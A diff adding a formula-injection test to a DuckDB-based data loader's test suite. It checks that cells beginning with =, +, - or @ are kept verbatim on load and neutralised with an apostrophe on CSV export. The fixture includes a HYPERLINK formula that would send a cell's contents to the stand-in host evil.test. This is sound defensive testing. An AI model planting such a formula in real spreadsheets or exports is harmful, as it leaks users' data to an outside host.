@@ -106,3 +106,28 @@ describe('a file DuckDB cannot read does not take the rest of the drop down', ()
     expect(await h.rows(`select count(*)::INTEGER as n from src_roles where _run_id = 2000`)).toEqual([{ n: 3 }]);
   });
 });
+
+describe('formula injection', () => {
+  it('keeps =HYPERLINK(…), +, -, @ cells verbatim in the data and neutralises them in a CSV export', async () => {
+    await restoreBase();
+    const c = cases.find((x) => x.id === 'formula-injection')!;
+    const dir = path.join(h.dir, 'formula');
+    fs.mkdirSync(dir, { recursive: true });
+    const [name] = writeCase(c, dir);
+    const [res] = await h.load([{ path: path.join(dir, name), name }], { runId: 3000 });
+    expect(res.status).toBe('loaded');
+    const rows = await h.rows<{ employee_id: string; full_name: string; department: string; location: string | null }>(
+      "select employee_id, full_name, department, location from src_employees where employee_id in ('E4', 'E5') order by 1");
+    expect(rows).toEqual([
+      { employee_id: 'E4', full_name: '=HYPERLINK("http://evil.test/?q="&A1,"Click me")', department: '+Sales', location: '@SUM(1+1)' },
+      { employee_id: 'E5', full_name: '-2+3', department: 'Engineering', location: '=1+1' },
+    ]);
+    const { exportToBuffer } = await import('../export.ts');
+    const { bytes } = await exportToBuffer(h.conn, 'src_employees', 'csv');
+    const text = bytes.toString('utf8');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?q=""&A1,""Click me"")"`);
+    for (const cell of ["'+Sales", "'@SUM(1+1)", "'-2+3", "'=1+1"]) expect(text).toContain(cell);
+    // no cell of the export starts with a formula character
+    expect(text.split(/\r?\n/).flatMap((l) => l.split(',')).filter((v) => /^"?[=+@-]/.test(v))).toEqual([]);
+  });
+});
